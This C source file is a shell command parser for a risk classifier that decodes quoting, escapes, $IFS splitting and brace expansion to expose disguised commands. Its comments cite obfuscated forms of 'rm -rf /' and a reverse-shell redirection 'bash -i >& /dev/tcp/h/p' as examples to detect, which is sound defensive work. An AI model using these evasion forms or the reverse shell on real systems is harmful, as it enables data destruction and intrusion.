/* A shell command line taken apart for the risk classifier (engine/risk/risk.c): commands, their
 * words with quoting undone ('r'm, r\m, $'\x72\x6d' are all "rm"), redirections, pipes,
 * here-documents, and the text of $(...), `...`, <(...) for the classifier to look into. Not a
 * shell: it never expands or runs anything; what it cannot know (a variable's value) it marks
 * dynamic. */
#include "engine/risk/risk_internal.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---- growing arrays ---- */

/* Room for one more element in an array of n with *cap slots (first: the first size). */
static int rs_grow(void **arr, int *cap, int n, size_t elem, int first)
{
    if (n < *cap)
        return 0;
    int ncap = *cap ? *cap * 2 : first;
    void *g = realloc(*arr, (size_t)ncap * elem);
    if (!g)
        return -1;
    *arr = g;
    *cap = ncap;
    return 0;
}

/* Out of memory the byte is lost: the classifier then sees less text, never more. */
static void rs_putc(struct buf *b, char c)
{
    buf_append(b, &c, 1);
}

/* ---- the list being built ---- */

struct rs_parse {
    struct rs_list *out;
    const char *s;
    size_t len, i;
    struct rs_cmd *cmd;       /* the command being read */
    struct buf word;          /* the word being read */
    bool in_word, dyn, split; /* split: it held $IFS, re-split it at the end */
    int subst;                /* RS_SUBST_* of substitutions inside the word */
    /* here-documents announced on this line, read after its newline: (command, redirection)
     * indexes, since both arrays may move as they grow */
    int pending_cmd[8], pending_redir[8];
    char *heredoc_delim[8];
    int npending;
    int redir_kind; /* a redirection waits for its target word: RS_REDIR_* or 0 */
};

static struct rs_cmd *rs_cmd_new(struct rs_parse *p)
{
    struct rs_list *l = p->out;
    if (rs_grow((void **)&l->cmds, &l->cap, l->n, sizeof(*l->cmds), 8) < 0)
        return NULL;
    struct rs_cmd *c = &l->cmds[l->n++];
    memset(c, 0, sizeof(*c));
    return c;
}

static struct rs_cmd *rs_cur(struct rs_parse *p)
{
    if (!p->cmd)
        p->cmd = rs_cmd_new(p);
    return p->cmd;
}

static void rs_word_add(struct rs_cmd *c, const char *s, bool dyn, int subst)
{
    if (rs_grow((void **)&c->words, &c->capwords, c->nwords, sizeof(*c->words), 8) < 0)
        return;
    c->words[c->nwords++] = (struct rs_word){.s = strdup(s), .dyn = dyn, .subst = subst};
}

static struct rs_redir *rs_redir_add(struct rs_cmd *c, int kind)
{
    if (rs_grow((void **)&c->redirs, &c->capredirs, c->nredirs, sizeof(*c->redirs), 4) < 0)
        return NULL;
    struct rs_redir *r = &c->redirs[c->nredirs++];
    memset(r, 0, sizeof(*r));
    r->kind = kind;
    return r;
}

/* Brace expansion of a whole word "{a,b,c}" into words (what `{rm,-rf,/}` runs). */
static bool rs_brace_words(struct rs_cmd *c, const char *w)
{
    size_t n = strlen(w);
    if (n < 3 || w[0] != '{' || w[n - 1] != '}' || !memchr(w, ',', n))
        return false;
    char *copy = strndup(w + 1, n - 2);
    if (!copy)
        return false;
    char *save = NULL;
    for (char *t = strtok_r(copy, ",", &save); t; t = strtok_r(NULL, ",", &save))
        rs_word_add(c, t, false, 0);
    free(copy);
    return true;
}

static void rs_word_end(struct rs_parse *p)
{
    if (!p->in_word)
        return;
    const char *w = p->word.data ? p->word.data : "";
    if (p->redir_kind) {
        struct rs_redir *r = rs_redir_add(rs_cur(p), p->redir_kind);
        if (r) {
            r->target = strdup(w);
            r->dyn = p->dyn;
            r->subst = p->subst;
        }
        p->redir_kind = 0;
    } else if (p->split) {
        /* rm${IFS}-rf${IFS}/ is three words */
        char *copy = strdup(w), *save = NULL;
        for (char *t = copy ? strtok_r(copy, " \t\n", &save) : NULL; t;
             t = strtok_r(NULL, " \t\n", &save))
            rs_word_add(rs_cur(p), t, p->dyn, p->subst);
        free(copy);
        p->out->obfuscated = true;
    } else if (p->dyn || !rs_brace_words(rs_cur(p), w)) {
        rs_word_add(rs_cur(p), w, p->dyn, p->subst);
    }
    p->word.len = 0;
    if (p->word.data)
        p->word.data[0] = '\0';
    p->in_word = p->dyn = p->split = false;
    p->subst = 0;
}

static void rs_cmd_end(struct rs_parse *p, int link)
{
    rs_word_end(p);
    if (p->cmd) {
        p->cmd->link = link;
        p->cmd = NULL;
    } else if (link == RS_LINK_PIPE && p->out->n) {
        p->out->cmds[p->out->n - 1].link = link;
    }
}

/* ---- nested text: $(...), `...`, <(...) ---- */

static void rs_nested(struct rs_parse *p, const char *s, size_t n, int kind)
{
    struct rs_list *l = p->out;
    if (l->nnested == l->capnested) {
        int cap = l->capnested ? l->capnested * 2 : 4;
        struct rs_nested *x = realloc(l->nested, (size_t)cap * sizeof(*x));
        if (!x)
            return;
        l->nested = x;
        l->capnested = cap;
    }
    l->nested[l->nnested++] = (struct rs_nested){.text = strndup(s, n), .kind = kind};
    p->subst |= kind;
}

/* The end of a $( ... ) that starts at s[i] (after the opening parenthesis): the index of the
 * matching ')', quotes and nesting respected; len when unterminated. */
static size_t rs_match_paren(const char *s, size_t len, size_t i)
{
    int depth = 1;
    while (i < len) {
        char c = s[i];
        if (c == '\\' && i + 1 < len) {
            i += 2;
            continue;
        }
        if (c == '\'') {
            const char *q = memchr(s + i + 1, '\'', len - i - 1);
            i = q ? (size_t)(q - s) + 1 : len;
            continue;
        }
        if (c == '"') {
            i++;
            while (i < len && s[i] != '"') {
                if (s[i] == '\\' && i + 1 < len)
                    i++;
                i++;
            }
            i++;
            continue;
        }
        if (c == '(')
            depth++;
        else if (c == ')' && --depth == 0)
            return i;
        i++;
    }
    return len;
}

static int rs_hex(char c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    if (c >= 'a' && c <= 'f')
        return c - 'a' + 10;
    if (c >= 'A' && c <= 'F')
        return c - 'A' + 10;
    return -1;
}

/* $'...' with its escapes decoded; i at the first byte after $' ; returns the index after the
 * closing quote. */
static size_t rs_ansi_c(struct rs_parse *p, size_t i)
{
    const char *s = p->s;
    while (i < p->len && s[i] != '\'') {
        if (s[i] != '\\' || i + 1 >= p->len) {
            rs_putc(&p->word, s[i++]);
            continue;
        }
        char e = s[i + 1];
        i += 2;
        static const char esc_from[] = "ntrabfev\\'\"?";
        static const char esc_to[] = "\n\t\r\a\b\f\x1b\v\\'\"?";
        const char *f = strchr(esc_from, e);
        /* letters spelled as numbers ($'\x72\x6d' is rm) hide a word; $'\n' does not */
        if (e == 'x' || (e >= '0' && e <= '7') || e == 'u' || e == 'U' || e == 'c')
            p->out->obfuscated = true;
        if (e == 'x') {
            int v = 0, k = 0;
            while (k < 2 && i < p->len && rs_hex(s[i]) >= 0)
                v = v * 16 + rs_hex(s[i++]), k++;
            rs_putc(&p->word, (char)v);
        } else if (e >= '0' && e <= '7') {
            int v = e - '0', k = 1;
            while (k < 3 && i < p->len && s[i] >= '0' && s[i] <= '7')
                v = v * 8 + (s[i++] - '0'), k++;
            rs_putc(&p->word, (char)v);
        } else if (f && e) {
            rs_putc(&p->word, esc_to[f - esc_from]);
        } else {
            rs_putc(&p->word, '\\');
            rs_putc(&p->word, e);
        }
    }
    if (i >= p->len)
        p->out->unterminated = true;
    return i < p->len ? i + 1 : i;
}

/* $IFS and $HOME have a value the classifier can rely on (a space that splits the word, ~);
 * true when name (n bytes) is one of them, its value then added to the word. */
static bool rs_known_var(struct rs_parse *p, const char *name, size_t n)
{
    if (n == 3 && memcmp(name, "IFS", 3) == 0) {
        rs_putc(&p->word, ' ');
        p->split = true;
        return true;
    }
    if (n == 4 && memcmp(name, "HOME", 4) == 0) {
        buf_append(&p->word, "~", 1);
        return true;
    }
    return false;
}

/* A $ expansion at s[i] (the '$'); returns the index after it. */
static size_t rs_dollar(struct rs_parse *p, size_t i)
{
    const char *s = p->s;
    size_t len = p->len;
    p->in_word = true;
    if (i + 1 >= len) {
        rs_putc(&p->word, '$');
        return i + 1;
    }
    char c = s[i + 1];
    if (c == '\'')
        return rs_ansi_c(p, i + 2);
    if (c == '(') {
        if (i + 2 < len && s[i + 2] == '(') { /* $(( arithmetic )) */
            size_t end = rs_match_paren(s, len, i + 3);
            p->out->unterminated |= end + 2 > len;
            p->dyn = true;
            return end + 2 <= len ? end + 2 : len;
        }
        size_t end = rs_match_paren(s, len, i + 2);
        p->out->unterminated |= end >= len;
        rs_nested(p, s + i + 2, end - (i + 2), RS_SUBST_COMMAND);
        p->dyn = true;
        return end < len ? end + 1 : len;
    }
    if (c == '{') {
        const char *close = memchr(s + i + 2, '}', len - i - 2);
        size_t end = close ? (size_t)(close - s) : len;
        p->out->unterminated |= !close;
        size_t n = end - (i + 2);
        if (!rs_known_var(p, s + i + 2, n)) {
            p->dyn = true;
            /* ${x:-rm}: the default may be what runs */
            const char *dflt = memchr(s + i + 2, '-', n);
            if (dflt)
                buf_append(&p->word, dflt + 1, (size_t)(s + end - dflt - 1));
        }
        return close ? end + 1 : len;
    }
    size_t j = i + 1;
    while (j < len && (s[j] == '_' || (s[j] >= 'a' && s[j] <= 'z') ||
                       (s[j] >= 'A' && s[j] <= 'Z') || (s[j] >= '0' && s[j] <= '9')))
        j++;
    if (j == i + 1) {
        if (strchr("@*#?$!-0123456789", c)) {
            p->dyn = true;
            return i + 2;
        }
        rs_putc(&p->word, '$');
        return i + 1;
    }
    if (!rs_known_var(p, s + i + 1, j - (i + 1)))
        p->dyn = true;
    return j;
}

static struct rs_redir *rs_pending(struct rs_parse *p, int k)
{
    int c = p->pending_cmd[k], r = p->pending_redir[k];
    if (c < 0 || c >= p->out->n || r < 0 || r >= p->out->cmds[c].nredirs)
        return NULL;
    return &p->out->cmds[c].redirs[r];
}

/* A here-document's body: the lines after this one up to the delimiter. */
static size_t rs_heredocs(struct rs_parse *p, size_t i)
{
    for (int k = 0; k < p->npending; k++) {
        const char *delim = p->heredoc_delim[k] ? p->heredoc_delim[k] : "";
        struct buf body = {0};
        bool found = false;
        while (i < p->len) {
            const char *nl = memchr(p->s + i, '\n', p->len - i);
            size_t end = nl ? (size_t)(nl - p->s) : p->len;
            size_t a = i;
            while (a < end && p->s[a] == '\t') /* <<- strips leading tabs */
                a++;
            bool last = end - a == strlen(delim) && memcmp(p->s + a, delim, end - a) == 0;
            i = nl ? end + 1 : end;
            if (last) {
                found = true;
                break;
            }
            buf_append(&body, p->s + a, end - a);
            rs_putc(&body, '\n');
        }
        p->out->unterminated |= !found;
        struct rs_redir *r = rs_pending(p, k);
        if (r && !r->body)
            r->body = body.data ? body.data : strdup("");
        else
            free(body.data);
        free(p->heredoc_delim[k]);
        p->heredoc_delim[k] = NULL;
    }
    p->npending = 0;
    return i;
}

static size_t rs_redirect(struct rs_parse *p, size_t i)
{
    const char *s = p->s;
    size_t len = p->len;
    /* a word of digits right before is the descriptor number, not a word */
    if (p->in_word && p->word.data && strspn(p->word.data, "0123456789") == p->word.len) {
        p->word.len = 0;
        p->word.data[0] = '\0';
        p->in_word = false;
    }
    rs_word_end(p);
    char c = s[i];
    if (i + 1 < len && s[i + 1] == '(') { /* <(...) >(...) */
        size_t end = rs_match_paren(s, len, i + 2);
        p->out->unterminated |= end >= len;
        rs_nested(p, s + i + 2, end - (i + 2), RS_SUBST_PROCESS);
        p->in_word = true;
        p->dyn = true;
        return end < len ? end + 1 : len;
    }
    if (c == '<' && i + 2 < len && s[i + 1] == '<' && s[i + 2] == '<') {
        p->redir_kind = RS_REDIR_HERESTRING;
        return i + 3;
    }
    if (c == '<' && i + 1 < len && s[i + 1] == '<') {
        i += 2;
        if (i < len && s[i] == '-')
            i++;
        while (i < len && (s[i] == ' ' || s[i] == '\t'))
            i++;
        size_t a = i;
        while (i < len && !strchr(" \t\n;&|<>()", s[i]))
            i++;
        char *d = strndup(s + a, i - a);
        /* quotes around the delimiter only turn expansion off */
        if (d) {
            size_t w = 0;
            for (size_t r = 0; d[r]; r++)
                if (d[r] != '\'' && d[r] != '"' && d[r] != '\\')
                    d[w++] = d[r];
            d[w] = '\0';
        }
        struct rs_cmd *cmd = rs_cur(p);
        struct rs_redir *r = cmd ? rs_redir_add(cmd, RS_REDIR_HEREDOC) : NULL;
        if (r && p->npending < 8) {
            p->pending_cmd[p->npending] = (int)(cmd - p->out->cmds);
            p->pending_redir[p->npending] = cmd->nredirs - 1;
            p->heredoc_delim[p->npending++] = d;
        } else {
            free(d);
        }
        return i;
    }
    if (c == '>' && i + 1 < len && s[i + 1] == '&') {
        /* >&2 and >&- duplicate a descriptor; >&file (bash) sends stdout and stderr there:
         * the reverse shell's `bash -i >& /dev/tcp/h/p` */
        size_t j = i + 2;
        while (j < len && s[j] && strchr("0123456789-", s[j]))
            j++;
        if (j > i + 2 && (j == len || strchr(" \t\n;&|<>()", s[j])))
            return j;
        p->redir_kind = RS_REDIR_OUT;
        return i + 2;
    }
    if (c == '<' && i + 1 < len && s[i + 1] == '&') {
        i += 2;
        while (i < len && strchr("0123456789-", s[i]))
            i++;
        return i;
    }
    if (c == '<' && i + 1 < len && s[i + 1] == '>') { /* <> read-write */
        p->redir_kind = RS_REDIR_OUT;
        return i + 2;
    }
    if (c == '>') {
        p->redir_kind = RS_REDIR_OUT;
        i++;
        if (i < len && (s[i] == '>' || s[i] == '|'))
            i++;
        return i;
    }
    p->redir_kind = RS_REDIR_IN;
    return i + 1;
}

static void rs_parse(struct rs_parse *p)
{
    const char *s = p->s;
    size_t len = p->len, i = 0;
    while (i < len) {
        char c = s[i];
        if (c == ' ' || c == '\t') {
            rs_word_end(p);
            i++;
        } else if (c == '\n') {
            rs_cmd_end(p, RS_LINK_SEQ);
            i = rs_heredocs(p, i + 1);
        } else if (c == ';') {
            rs_cmd_end(p, RS_LINK_SEQ);
            i += (i + 1 < len && s[i + 1] == ';') ? 2 : 1;
        } else if (c == '|') {
            bool or = i + 1 < len && s[i + 1] == '|';
            if (! or &&i + 1 < len && s[i + 1] == '&')
                i++; /* |& pipes stderr too */
            rs_cmd_end(p, or ? RS_LINK_SEQ : RS_LINK_PIPE);
            i += or ? 2 : 1;
        } else if (c == '&') {
            if (i + 1 < len && s[i + 1] == '&') {
                rs_cmd_end(p, RS_LINK_SEQ);
                i += 2;
            } else if (i + 1 < len && s[i + 1] == '>') { /* &> file */
                rs_word_end(p);
                p->redir_kind = RS_REDIR_OUT;
                i += (i + 2 < len && s[i + 2] == '>') ? 3 : 2;
            } else {
                if (p->cmd)
                    p->cmd->background = true;
                rs_cmd_end(p, RS_LINK_SEQ);
                i++;
            }
        } else if (c == '(' || c == ')') {
            /* subshells and function bodies: their commands are commands like the others.
             * name() defines a function: the name is not a command; it is kept, so that
             * calling it is known for what it is */
            if (c == '(' && p->in_word && i + 1 < len && s[i + 1] == ')') {
                struct rs_list *l = p->out;
                if (l->nfuncs < RS_MAX_FUNCS)
                    snprintf(l->funcs[l->nfuncs++], sizeof(l->funcs[0]), "%s",
                             p->word.data ? p->word.data : "");
                p->word.len = 0;
                if (p->word.data)
                    p->word.data[0] = '\0';
                p->in_word = p->dyn = p->split = false;
                p->subst = 0;
                i += 2;
                continue;
            }
            rs_cmd_end(p, RS_LINK_SEQ);
            i++;
        } else if (c == '#' && !p->in_word) {
            while (i < len && s[i] != '\n')
                i++;
        } else if (c == '<' || c == '>') {
            i = rs_redirect(p, i);
        } else if (c == '\\') {
            p->in_word = true;
            if (i + 1 < len && s[i + 1] != '\n')
                rs_putc(&p->word, s[i + 1]);
            i += 2;
        } else if (c == '\'') {
            p->in_word = true;
            const char *q = memchr(s + i + 1, '\'', len - i - 1);
            size_t end = q ? (size_t)(q - s) : len;
            p->out->unterminated |= !q;
            buf_append(&p->word, s + i + 1, end - i - 1);
            i = end + 1;
        } else if (c == '"') {
            p->in_word = true;
            i++;
            while (i < len && s[i] != '"') {
                if (s[i] == '\\' && i + 1 < len && strchr("$`\"\\\n", s[i + 1])) {
                    if (s[i + 1] != '\n')
                        rs_putc(&p->word, s[i + 1]);
                    i += 2;
                } else if (s[i] == '$') {
                    bool split = p->split;
                    i = rs_dollar(p, i);
                    p->split = split; /* "$IFS" in quotes does not split */
                } else if (s[i] == '`') {
                    const char *q = memchr(s + i + 1, '`', len - i - 1);
                    size_t end = q ? (size_t)(q - s) : len;
                    p->out->unterminated |= !q;
                    rs_nested(p, s + i + 1, end - i - 1, RS_SUBST_COMMAND);
                    p->dyn = true;
                    i = end + 1;
                } else {
                    rs_putc(&p->word, s[i++]);
                }
            }
            p->out->unterminated |= i >= len;
            i++;
        } else if (c == '$') {
            i = rs_dollar(p, i);
        } else if (c == '`') {
            p->in_word = true;
            const char *q = memchr(s + i + 1, '`', len - i - 1);
            size_t end = q ? (size_t)(q - s) : len;
            p->out->unterminated |= !q;
            rs_nested(p, s + i + 1, end - i - 1, RS_SUBST_COMMAND);
            p->dyn = true;
            i = end + 1;
        } else {
            p->in_word = true;
            rs_putc(&p->word, c);
            i++;
        }
    }
    rs_cmd_end(p, RS_LINK_SEQ);
    p->out->unterminated |= p->npending > 0; /* a here-document that never started */
    for (int k = 0; k < p->npending; k++) {
        struct rs_redir *r = rs_pending(p, k);
        if (r && !r->body)
            r->body = strdup("");
        free(p->heredoc_delim[k]);
    }
    free(p->word.data);
}

void rs_list_parse(struct rs_list *l, const char *s, size_t len)
{
    memset(l, 0, sizeof(*l));
    struct rs_parse p = {.out = l, .s = s, .len = len};
    rs_parse(&p);
    /* empty commands (a lone "&&" or ";") carry nothing */
    int w = 0;
    for (int r = 0; r < l->n; r++) {
        if (l->cmds[r].nwords || l->cmds[r].nredirs)
            l->cmds[w++] = l->cmds[r];
        else if (r > 0 && w > 0 && l->cmds[r].link == RS_LINK_SEQ)
            l->cmds[w - 1].link = l->cmds[w - 1].link; /* keep the earlier link */
    }
    l->n = w;
}

void rs_list_free(struct rs_list *l)
{
    for (int i = 0; i < l->n; i++) {
        struct rs_cmd *c = &l->cmds[i];
        for (int k = 0; k < c->nwords; k++)
            free(c->words[k].s);
        for (int k = 0; k < c->nredirs; k++) {
            free(c->redirs[k].target);
            free(c->redirs[k].body);
        }
        free(c->words);
        free(c->redirs);
    }
    for (int i = 0; i < l->nnested; i++)
        free(l->nested[i].text);
    free(l->cmds);
    free(l->nested);
    memset(l, 0, sizeof(*l));
}
